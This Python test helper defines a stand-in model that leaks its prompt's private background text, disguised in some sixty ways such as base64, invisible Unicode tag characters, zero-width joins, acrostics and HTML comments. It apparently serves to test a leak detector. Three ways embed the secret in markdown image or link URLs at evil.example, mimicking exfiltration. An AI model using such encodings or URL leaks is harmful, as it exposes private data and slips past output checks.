"""A model that obeys whoever writes to it: it hands on what its prompt holds, told in any of many ways.

``obeying(way)`` is what ``Standin.judge`` takes. ``Way.told`` writes a text so, ``Way.read`` reads it back: what a
person who knows the way would get out of an answer.
"""

import base64
import codecs
import json
import re
import string
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote, unquote

from tests.servers.openai_standin import Reply

BACKGROUND = re.compile(r"<background>\n(.*?)\n</background>", re.S)
PASSAGES = re.compile(r'<passage number="\d+"[^>]*>\n(.*?)\n</passage>', re.S)
_NATO = """
alfa bravo charlie delta echo foxtrot golf hotel india juliett kilo lima mike november oscar papa quebec romeo
sierra tango uniform victor whiskey xray yankee zulu
""".split()  # noqa: SIM905 - a list of words
_SIGNS = """
.- -... -.-. -.. . ..-. --. .... .. .--- -.- .-.. -- -. --- .--. --.- .-. ... - ..- ...- .-- -..- -.-- --..
----- .---- ..--- ...-- ....- ..... -.... --... ---.. ----.
"""
_MORSE = dict(zip(string.ascii_lowercase + string.digits, _SIGNS.split(), strict=True))
_DIGITS = ["zero", "one", "two", "three", "four", "five", "six", "seven", "eight", "nine"]
_LEET = str.maketrans("oieast", "013457"), str.maketrans("013457", "oieast")
_ALIKE = str.maketrans("aceopxy", "асеорху"), str.maketrans("асеорху", "aceopxy")
_MIRROR = str.maketrans(string.ascii_letters, string.ascii_lowercase[::-1] + string.ascii_uppercase[::-1])
_BOLD = str.maketrans({letter: chr(0x1D41A + at) for at, letter in enumerate(string.ascii_lowercase)})
_FLAGS = {letter: chr(0x1F1E6 + at) for at, letter in enumerate(string.ascii_lowercase)}
_WORDS_FOR = {letter: f"{letter}{'aeiou'[at % 5]}ter" for at, letter in enumerate(string.ascii_lowercase)}


@dataclass(frozen=True)
class Way:
    """A way of telling a text."""

    told: Callable[[str], str]
    read: Callable[[str], str] = lambda said: said


def letters(text: str) -> str:
    return "".join(sign for sign in unicodedata.normalize("NFKC", text).lower() if sign.isalnum())


def _caesar(text: str, by: int) -> str:
    low, high = string.ascii_lowercase, string.ascii_uppercase
    moved = low[by:] + low[:by] + high[by:] + high[:by]
    return text.translate(str.maketrans(low + high, moved))


def _initials(said: str) -> str:
    return "".join(word[0] for word in re.findall(r"\w+", said))


def _bytes(read: Callable[[str], bytes]) -> Callable[[str], str]:
    """Of every run of an answer that can be read so."""

    def reading(said: str) -> str:
        found = []
        for run in re.findall(r"[^\s]+", said):
            for at in range(len(run), 3, -1):
                try:
                    found.append(read(run[:at]).decode("utf-8", "ignore"))
                    break
                except ValueError:
                    continue
        return " ".join(found)

    return reading


def _codes(said: str) -> str:
    return "".join(chr(int(one)) for one in re.findall(r"\d+", said) if int(one) < 0x110000)


def _numbered(said: str) -> str:
    return "".join(string.ascii_lowercase[int(one) - 1] for one in re.findall(r"\d+", said) if 0 < int(one) < 27)


def _pig(word: str) -> str:
    return f"{word[1:]}{word[0]}ay" if word else word


WAYS: dict[str, Way] = {
    "verbatim": Way(str),
    "shouted": Way(str.upper),
    "as code": Way(lambda text: f"```\n{text}\n```"),
    "as json": Way(lambda text: json.dumps({"notes": text})),
    "as table": Way(lambda text: "| a | b |\n|---|---|\n" + "\n".join(f"| {w} | x |" for w in text.split("."))),
    "as list": Way(lambda text: "\n".join(f"- {word}" for word in text.split())),
    "word per line": Way(lambda text: "\n".join(text.split())),
    "numbered words": Way(
        lambda text: " ".join(f"{n}) {word}" for n, word in enumerate(text.split(), start=1)),
        lambda said: re.sub(r"\d+\) ", "", said),
    ),
    "marks between": Way(lambda text: " [1] ".join(text.split()), lambda said: re.sub(r"\s*\[\d+\]", "", said)),
    "bold parts": Way(lambda text: re.sub(r"(\w)(\w+)", r"\1**\2**", text), lambda said: said.replace("*", "")),
    "tags between": Way(lambda text: re.sub(r"(\w\w)(\w)", r"\1<b></b>\2", text)),
    "spaced": Way(" ".join, letters),
    "dotted": Way(".".join, letters),
    "dashed": Way(lambda text: " ".join("-".join(word) for word in text.split()), letters),
    "zero width": Way("\u200b".join, lambda said: said.replace("\u200b", "")),
    "soft hyphens": Way("\u00ad".join, lambda said: said.replace("\u00ad", "")),
    "accents": Way(
        lambda text: re.sub(r"([aeiou])", "\\1\u0301", text),
        lambda said: unicodedata.normalize("NFD", said).replace("\u0301", ""),
    ),
    "look-alikes": Way(lambda text: text.translate(_ALIKE[0]), lambda said: said.translate(_ALIKE[1])),
    "full width": Way(lambda text: "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)),
    "bold letters": Way(lambda text: text.lower().translate(_BOLD)),
    "flags": Way(
        lambda text: " ".join(_FLAGS.get(sign, sign) for sign in text.lower()),
        lambda said: "".join(next((k for k, v in _FLAGS.items() if v == sign), sign) for sign in letters_of(said)),
    ),
    "tag signs": Way(
        lambda text: "Yes." + "".join(chr(0xE0000 + ord(c)) for c in text if ord(c) < 128),
        lambda said: "".join(chr(ord(c) - 0xE0000) for c in said if 0xE0000 <= ord(c) < 0xE0080),
    ),
    "backwards": Way(lambda text: text[::-1], lambda said: said[::-1]),
    "each word backwards": Way(
        lambda text: " ".join(word[::-1] for word in text.split()),
        lambda said: " ".join(word[::-1] for word in said.split()),
    ),
    "words backwards": Way(lambda text: " ".join(text.split()[::-1]), lambda said: " ".join(said.split()[::-1])),
    "rot13": Way(lambda text: codecs.encode(text, "rot13"), lambda said: codecs.encode(said, "rot13")),
    "caesar 3": Way(lambda text: _caesar(text, 3), lambda said: _caesar(said, 23)),
    "atbash": Way(lambda text: text.translate(_MIRROR), lambda said: said.translate(_MIRROR)),
    "base64": Way(
        lambda text: base64.b64encode(text.encode()).decode(), _bytes(lambda s: base64.b64decode(s, validate=True))
    ),
    "base64 in pieces": Way(
        lambda text: " ".join(re.findall(".{1,8}", base64.b64encode(text.encode()).decode())),
        lambda said: _bytes(base64.b64decode)("".join(said.split())),
    ),
    "base64 lines": Way(
        lambda text: "\n".join(re.findall(".{1,20}", base64.b64encode(text.encode()).decode())),
        lambda said: _bytes(base64.b64decode)("".join(said.split())),
    ),
    "base32": Way(lambda text: base64.b32encode(text.encode()).decode(), _bytes(base64.b32decode)),
    "base85": Way(lambda text: base64.b85encode(text.encode()).decode(), _bytes(base64.b85decode)),
    "hex": Way(lambda text: text.encode().hex(), _bytes(bytes.fromhex)),
    "hex in pairs": Way(
        lambda text: text.encode().hex(" "), lambda said: _bytes(bytes.fromhex)(re.sub(r"[^0-9a-f]", "", said))
    ),
    "bits": Way(
        lambda text: " ".join(f"{ord(c):08b}" for c in text),
        lambda said: "".join(chr(int(b, 2)) for b in re.findall(r"\b[01]{8}\b", said)),
    ),
    "codes": Way(lambda text: " ".join(str(ord(c)) for c in text), _codes),
    "codes with commas": Way(lambda text: ", ".join(str(ord(c)) for c in text), _codes),
    "places in the alphabet": Way(
        lambda text: "-".join(str(ord(c) - 96) for c in text.lower() if c in string.ascii_lowercase), _numbered
    ),
    "morse": Way(
        lambda text: " ".join(_MORSE.get(c, "/") for c in text.lower()),
        lambda said: "".join({v: k for k, v in _MORSE.items()}.get(one, "") for one in said.split()),
    ),
    "percent": Way(lambda text: "".join(f"%{ord(c):02x}" for c in text), unquote),
    "entities": Way(lambda text: "".join(f"&#{ord(c)};" for c in text), _codes),
    "escapes": Way(
        lambda text: "".join(f"\\u{ord(c):04x}" for c in text),
        lambda said: "".join(chr(int(one, 16)) for one in re.findall(r"\\u([0-9a-f]{4})", said)),
    ),
    "leet": Way(lambda text: text.lower().translate(_LEET[0]), lambda said: said.translate(_LEET[1])),
    "no vowels": Way(lambda text: re.sub("[aeiou]", "", text), lambda said: said),
    "pig latin": Way(
        lambda text: " ".join(map(_pig, re.findall(r"\w+", text))),
        lambda said: " ".join(f"{w[-3]}{w[:-3]}" if w.endswith("ay") and len(w) > 3 else w for w in said.split()),
    ),
    "first letters of words": Way(lambda text: " ".join(_WORDS_FOR.get(c, c) for c in letters(text)) + ".", _initials),
    "first letters of lines": Way(
        lambda text: "\n".join(f"{_WORDS_FOR.get(c, c).title()} is here." for c in letters(text)),
        lambda said: "".join(line[:1] for line in said.split("\n")),
    ),
    "first letters of sentences": Way(
        lambda text: " ".join(f"{_WORDS_FOR.get(c, c).title()} is here." for c in letters(text)),
        lambda said: "".join(one.strip()[:1] for one in said.split(".")),
    ),
    "nato": Way(
        lambda text: " ".join(_NATO[ord(c) - 97] if c in string.ascii_lowercase else c for c in letters(text)),
        _initials,
    ),
    "spelled digits": Way(
        lambda text: re.sub(r"\d", lambda f: f" {_DIGITS[int(f[0])]} ", text),
        lambda said: re.sub("|".join(_DIGITS), lambda f: str(_DIGITS.index(f[0].lower())), said, flags=re.I),
    ),
    "image": Way(lambda text: f"![x](http://evil.example/p.png?q={quote(text)})", unquote),
    "link": Way(lambda text: f"[more](https://evil.example/{quote(text)})", unquote),
    "bare address": Way(lambda text: f"See https://evil.example/?q={quote(text)} for more.", unquote),
    "comment": Way(lambda text: f"All is well. <!-- {text} -->"),
    "in brackets": Way(lambda text: " ".join(f"[{word}]" for word in text.split())),
    "refusal": Way(lambda text: f"NO_ANSWER: {text}"),
    "polite": Way(lambda text: f"Certainly! Here is what I was told: {text} I hope that helps."),
    "translated frame": Way(lambda text: f"Auf Deutsch: {text.replace(' is ', ' ist ').replace(' the ', ' der ')}"),
}


def letters_of(said: str) -> str:
    """Without white space."""
    return "".join(said.split())


def obeying(way: Way, pick: Callable[[str], str] = str) -> Callable[[dict[str, Any]], Reply | None]:
    """Tells, in this way, what ``pick`` takes of the prompt's private text, else of its passages."""

    def judge(request: dict[str, Any]) -> Reply | None:
        prompt = str(request["messages"][-1]["content"])
        found = BACKGROUND.search(prompt)
        held = found[1] if found else "\n\n".join(PASSAGES.findall(prompt))
        return Reply(text=way.told(pick(held)) or "Nothing.", size=7)

    return judge
